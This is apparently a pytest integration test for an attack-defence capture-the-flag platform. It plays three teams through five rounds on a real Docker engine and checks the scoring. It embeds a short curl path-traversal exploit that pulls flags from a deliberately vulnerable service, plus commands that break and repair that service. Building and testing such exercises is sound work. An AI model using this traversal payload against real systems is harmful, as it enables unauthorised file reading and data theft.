"""The duel of the registries, as it is shipped: five rounds between three teams, with real attacks.

Only the rounds' clock is ours, which is put forward, and of three services one is played, so that
it does not take an hour. What is attacked, mended and broken stands on the real engine.
"""

import re
import shutil
from collections.abc import Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path

import docker
import pytest

from api.bootstrap import Services, assemble
from api.rehearsal.clock import RehearsalClock
from core.clock import SystemClock
from core.ids import ExerciseId, TeamId, new_id
from core.migration import upgrade
from core.scenario.folder import Entry, Folder
from core.scenario.load import load
from core.settings import Settings, read_settings
from orchestrator.domain.exercise import Exercise, Team
from orchestrator.domain.phases import Phase
from orchestrator.domain.world import HostKey, WorldKey
from orchestrator.engine.runtime import DockerEngine
from orchestrator.service import TeamSpec
from scoring.attack_defence.rounds import LOOK
from scoring.domain.verdicts import Verdict
from tests.addresses import fresh_subnet
from tests.fakes.jobs import acts_of, do
from tests.fakes.queue import RecordingQueue

pytestmark = [pytest.mark.engine, pytest.mark.timeout(300)]

DUEL = Path(__file__).parents[2] / "scenarios" / "registry-duel"
TEAMS = ("north", "south", "west")
SOON = timedelta(seconds=60)
UP, DOWN, RECOVERING = Verdict.UP, Verdict.DOWN, Verdict.RECOVERING
# The locker's hole: the name of a document may climb out of its folder.
EXPLOIT = r"""
curl -sS "$1/folders" | while read -r document; do
    curl -sS -G "$1/document" -d folder=forms -d pin=public --data-urlencode "name=../$document"
done | grep -oE 'LCK\{[A-Za-z0-9]+\}' | sort -u
"""
BREAK = "mv /srv/registry/locker/app.py /srv/kept && ! restart-service locker"
REPAIR = "mv /srv/kept /srv/registry/locker/app.py && until curl -fs localhost:4100/; do :; done"


@dataclass(kw_only=True)
class Range:
    """The exercise that is played, and what was seen in it."""

    services: Services
    clock: RehearsalClock
    queue: RecordingQueue
    id: ExerciseId
    seen: list[Mapping[str, Verdict | None]] = field(default_factory=list)
    """Team → verdict, of each round."""

    @property
    def exercise(self) -> Exercise:
        return self.services.exercises.get(self.id)

    def team(self, slug: str) -> Team:
        found = self.exercise.team(slug)
        assert found is not None
        return found

    def pass_round(self) -> None:
        """Let time go on to the end of the round that is on."""
        spec = self.services.exercises.scenario(self.exercise).scenario.rounds
        assert spec is not None
        passed = self.exercise.elapsed(self.clock.now())
        self.clock.jump(max(len(self.seen) * spec.every - passed, timedelta()))

    def next_round(self) -> Mapping[str, Verdict | None]:
        """Play a round that begins now."""
        self.pass_round()
        self.services.attack_defence.sweep()
        jobs = [job for job in self.queue.take() if job.name == LOOK]
        with ThreadPoolExecutor(3) as workers:
            verdicts = list(workers.map(lambda job: self.look(*job.arguments), jobs))
        slugs = {team.id: team.slug for team in self.exercise.teams}
        said = dict(zip((slugs[TeamId(j.arguments[1])] for j in jobs), verdicts, strict=True))
        self.seen.append(said)
        return said

    def look(self, exercise: str, team: str, service: str, number: str) -> Verdict | None:
        attack_defence = self.services.attack_defence
        return attack_defence.look(ExerciseId(exercise), TeamId(team), service, int(number))

    def attack(self, attacker: str, victim: str) -> list[str]:
        """Run the exploit as a keeper of a team; return the flags that it got of the victim."""
        command = ("sh", "-c", EXPLOIT, "exploit", f"http://vault.{victim}:4100")
        engine = self.services.engine
        ran = engine.run(self.host(attacker), command, timeout=SOON, account="keeper")
        return ran.output.split()

    def mend(self, slug: str) -> None:
        """Play the reference solution as a keeper of a team: it mends the services in use."""
        host, engine = self.host(slug), self.services.engine
        entries = [e for e in Folder(DUEL).entries() if e.path == "solution/play.sh"]
        script = [Entry(path="play.sh", content=e.content, executable=True) for e in entries]
        engine.put_folder(host, "/tmp/solution", script)
        command = ("sh", "/tmp/solution/play.sh")
        ran = engine.run(host, command, timeout=SOON, account="keeper")
        assert ran.ok, ran.output

    def does(self, slug: str, line: str) -> None:
        ran = self.services.engine.run(self.host(slug), ("sh", "-c", line), timeout=SOON)
        assert ran.ok, ran.output

    def host(self, slug: str) -> HostKey:
        return HostKey(world=WorldKey(exercise=self.id, team=slug), host="vault")

    def captured(self, slug: str, *flags: str) -> list[str]:
        team = self.team(slug)
        answers = self.services.attack_defence.capture(
            self.exercise, team, team.members[0].user, flags
        )
        return [answer.code for answer in answers]


@pytest.fixture
def duel(docker_client: docker.DockerClient, tmp_path: Path) -> Iterator[Range]:
    del docker_client  # without an engine there is none of this
    settings = Settings(
        home=tmp_path / "home",
        installation=f"duel-{new_id(6)}",
        address_pool=(fresh_subnet(),),
        self_test="off",
    )
    settings.home.mkdir()
    queue, clock = RecordingQueue(), RehearsalClock(SystemClock())
    engine = DockerEngine(read_settings().docker_host, installation=settings.installation)
    upgrade(settings.effective_database_url())
    services = assemble(settings, clock=clock, queue=queue, engine=engine)
    try:
        yield Range(
            services=services, clock=clock, queue=queue, id=started(services, queue, tmp_path)
        )
    finally:
        engine.remove_everything()
        services.close()


def started(services: Services, queue: RecordingQueue, folder: Path) -> ExerciseId:
    """Launch the duel with its first service alone, whose flags live for two rounds.

    Its checker may take as long as it does on a busy machine.
    """
    shutil.copytree(DUEL, folder / "registry-duel")
    file = folder / "registry-duel" / "scenario.yaml"
    text = re.sub(r"(?ms)^  search:\n    title: Register.*?(?=^scoring:)", "", file.read_text())
    text = text.replace("length: 24, lives: 5", "length: 24, lives: 2")
    file.write_text(
        text.replace("[/checker/locker], timeout: 10s", "[/checker/locker], timeout: 25s")
    )
    for translation in (folder / "registry-duel" / "text").iterdir():
        translation.unlink()
    loaded = load(file.parent)
    assert list(loaded.scenario.services) == ["locker"]
    teams = [TeamSpec(name=name) for name in TEAMS]
    exercise = services.exercises.launch(loaded, teams=teams, by=None).id
    while jobs := queue.take():
        for job in jobs:
            do(acts_of(services), job)
    launched = services.exercises.get(exercise)
    assert launched.phase is Phase.READY, [team.problem for team in launched.teams]
    services.exercises.start(exercise)
    return exercise


def test_three_teams_play_five_rounds_of_the_duel(duel: Range) -> None:
    assert duel.next_round() == {"north": UP, "south": UP, "west": UP}
    [souths], [wests] = duel.attack("north", "south"), duel.attack("north", "west")
    assert duel.captured("north", souths, wests) == ["accepted", "accepted"]
    own = duel.attack("north", "north")
    assert duel.captured("north", *own, souths, "LCK{nothing}") == ["own", "duplicate", "invalid"]
    duel.mend("south")

    assert duel.next_round() == {"north": UP, "south": UP, "west": UP}
    assert duel.attack("west", "south") == [], "it is mended"
    robbed = set(duel.attack("south", "west"))
    assert duel.captured("south", wests) == ["accepted"]
    [new] = robbed - {wests}
    assert duel.captured("north", new) == ["accepted"]
    duel.does("west", BREAK)

    assert duel.next_round() == {"north": UP, "south": UP, "west": DOWN}
    duel.does("west", REPAIR)
    assert duel.next_round() == {"north": UP, "south": UP, "west": RECOVERING}
    [newest] = set(duel.attack("north", "west")) - robbed
    assert duel.captured("north", newest, wests) == ["accepted", "old"]

    assert duel.next_round() == {"north": UP, "south": UP, "west": UP}
    duel.pass_round()
    duel.services.exercises.end(duel.id)
    assert duel.captured("south", newest) == ["not_running"]
    duel.services.attack_defence.sweep()
    judge(duel)


def judge(duel: Range) -> None:
    """Compare with what was worked out by hand, by FAUST's rules: √3 = 1.732, 2^0.75 = 1.681.

    North took four flags, one of which south took, too: 2 + 1.5 + 2 + 2. West was up in three
    rounds and recovering in one.
    """
    board = duel.services.attack_defence.board(duel.exercise)
    assert {
        line.team: (
            line.services[0].attack,
            line.services[0].defence,
            line.services[0].availability,
        )
        for line in board.teams
    } == {
        "north": (7500, 0, 5 * 1732),
        "south": (1500, -1000, 5 * 1732),
        "west": (0, -1681 - 1000 - 1000, 3 * 1732 + 866),
    }
    ledger = {row.team: row.milli_points for row in duel.services.scoring.board(duel.exercise).rows}
    assert ledger == {line.team: line.milli_points for line in board.teams}
    assert [line.team for line in board.teams] == ["north", "south", "west"]
    assert duel.services.replaying.replay(duel.exercise).holds
    assert duel.services.proving.verify(duel.exercise).faults == ()
